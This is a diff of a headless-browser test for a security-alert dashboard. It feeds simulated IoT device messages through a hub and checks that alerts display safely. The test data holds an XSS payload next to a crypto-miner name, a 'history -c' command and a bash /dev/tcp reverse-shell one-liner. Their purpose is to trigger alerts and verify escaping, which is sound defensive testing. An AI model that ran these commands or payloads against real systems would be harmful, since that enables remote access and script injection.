@@ -1,12 +1,10 @@
-// The page in headless Chromium, against a server that this test starts: HOST is a command that prints the port it
-// serves on, and then makes one new alert for each line it reads. Usage: node page.mjs HOST [SCREENSHOTS].
+// The page in headless Chromium, over the real server: every alert here was raised by what a device sent through the hub.
+// Usage: node page.mjs [SCREENSHOTS], a folder for pictures of what was seen.
 import assert from "node:assert/strict";
-import { spawn } from "node:child_process";
-import { once } from "node:events";
 import { existsSync } from "node:fs";
 import { createRequire } from "node:module";
 import { join } from "node:path";
-import { createInterface } from "node:readline";
+import { processMessage, publish, runAll, Server, until } from "../integration/harness.mjs";
 
 const require = createRequire(new URL("../../web/package.json", import.meta.url));
 const { chromium } = require("playwright-core");
@@ -16,10 +14,17 @@ if (!existsSync(executablePath)) {
   process.exit(77);
 }
 
-const [command, screenshots] = process.argv.slice(2);
-const host = spawn(command, { shell: true, stdio: ["pipe", "pipe", "inherit"] });
-const [port] = await once(createInterface({ input: host.stdout }), "line");
-const origin = `http://127.0.0.1:${port}`;
+const screenshots = process.argv[2];
+const server = await Server.start();
+await server.cli("hub", "create", "home");
+const origin = server.profile.server;
+const pump = await server.create("pump-3", "azureiotsecurity");
+const gateway = await server.create("gateway-hall-b", "azureiotsecurity");
+const hostile = "cpuminer-multi <img src=x onerror=alert(1)>";
+await publish(server, pump, processMessage(hostile));
+await publish(server, gateway, processMessage("history -c"));
+await server.rows("SecurityAlert | distinct SystemAlertId", 2);
+
 const browser = await chromium.launch({
   executablePath,
   args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
@@ -30,7 +35,7 @@ const picture = async (page, name) => {
   if (screenshots) await page.screenshot({ path: join(screenshots, `${name}.png`) });
 };
 
-async function signedIn(options = {}) {
+async function signedIn(options = {}, place = "/") {
   const page = await browser.newPage({ viewport: { width: 1360, height: 1000 }, ...options });
   const complaints = [];
   const hosts = new Set();
@@ -38,19 +43,19 @@ async function signedIn(options = {}) {
   page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
   page.on("pageerror", (error) => complaints.push(String(error)));
   page.on("request", (request) => hosts.add(new URL(request.url()).host));
-  await page.goto(`${origin}/#token=secret`);
+  await page.goto(`${origin}${place}#token=${server.profile.token}`);
   await page.waitForSelector("table.alerts tbody tr");
   return { page, complaints, hosts };
 }
 
-const tests = {
+const failed = await runAll({
   async "asks for a token, refuses a wrong one, takes the right one"() {
     const page = await browser.newPage();
     await page.goto(origin);
     await page.fill("#token", "wrong");
     await page.keyboard.press("Enter");
     await page.waitForSelector("[role=alert]");
-    await page.fill("#token", "secret");
+    await page.fill("#token", server.profile.token);
     await page.keyboard.press("Enter");
     await page.waitForSelector(".tile");
     await page.close();
@@ -70,20 +75,21 @@ const tests = {
     await page.waitForSelector(".link.live");
     await page.waitForTimeout(500);
     await picture(page, "overview");
-    assert.deepEqual([...hosts], [`127.0.0.1:${port}`]);
+    assert.deepEqual([...hosts], [new URL(origin).host]);
     assert.deepEqual(complaints, []);
     await page.close();
   },
 
   async "shows an alert by keyboard alone, device text as text, and closes on Escape"() {
     const { page, complaints } = await signedIn();
-    await page.locator("table.alerts button.link").first().focus();
+    await page.locator("table.alerts button.link", { hasText: "miner" }).first().focus();
     await page.keyboard.press("Enter");
     const drawer = page.locator("dialog.drawer");
     await drawer.locator("pre.command").waitFor();
     assert.match(await drawer.locator("pre.command").innerText(), /<img src=x/);
     assert.equal(await drawer.locator("img").count(), 0);
-    assert.ok((await drawer.locator(".evidence li").count()) > 0);
+    assert.equal(await drawer.locator(".evidence li").count(), 1);
+    assert.match(await drawer.locator(".evidence").innerText(), /<img src=x/);
     assert.match(await drawer.innerText(), /T1496/);
     await picture(page, "alert");
     await page.keyboard.press("Escape");
@@ -95,12 +101,17 @@ const tests = {
   async "shows a new alert without being reloaded"() {
     const { page } = await signedIn();
     await page.waitForSelector(".link.live");
-    const before = Number(await page.locator("[data-severity=High] .tile-number").innerText());
-    const asked = performance.now();
-    host.stdin.write("\n");
-    await page.getByText("Live alert").waitFor({ timeout: 5000 });
-    console.log(`     visible after ${Math.round(performance.now() - asked)} ms`);
-    assert.equal(Number(await page.locator("[data-severity=High] .tile-number").innerText()), before + 1);
+    const high = page.locator("[data-severity=High] .tile-number");
+    const before = Number(await high.innerText());
+    const rows = await page.locator("table.alerts tbody tr").count();
+    const began = performance.now();
+    await publish(server, gateway, processMessage("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
+    const acknowledged = performance.now();
+    await until("the alert is on the page", async () => (await page.locator("table.alerts tbody tr.fresh").count()) > 0, 10);
+    const visible = performance.now();
+    console.log(`     acknowledged after ${Math.round(acknowledged - began)} ms, visible ${Math.round(visible - acknowledged)} ms later`);
+    assert.ok((await page.locator("table.alerts tbody tr").count()) > rows);
+    await until("the tile counts it", async () => Number(await high.innerText()) > before, 5);
     await page.close();
   },
 
@@ -116,19 +127,7 @@ const tests = {
     assert.ok(overflow <= 0, `the page is ${overflow} px wider than a phone`);
     await phone.page.close();
   },
-};
-
-let failed = 0;
-for (const [name, test] of Object.entries(tests)) {
-  try {
-    await test();
-    console.log(`ok   ${name}`);
-  } catch (error) {
-    failed += 1;
-    console.log(`FAIL ${name}\n${error.stack}`);
-  }
-}
+});
 await browser.close();
-host.stdin.end();
-await once(host, "exit");
+await server.stop();
 process.exit(failed === 0 ? 0 : 1);
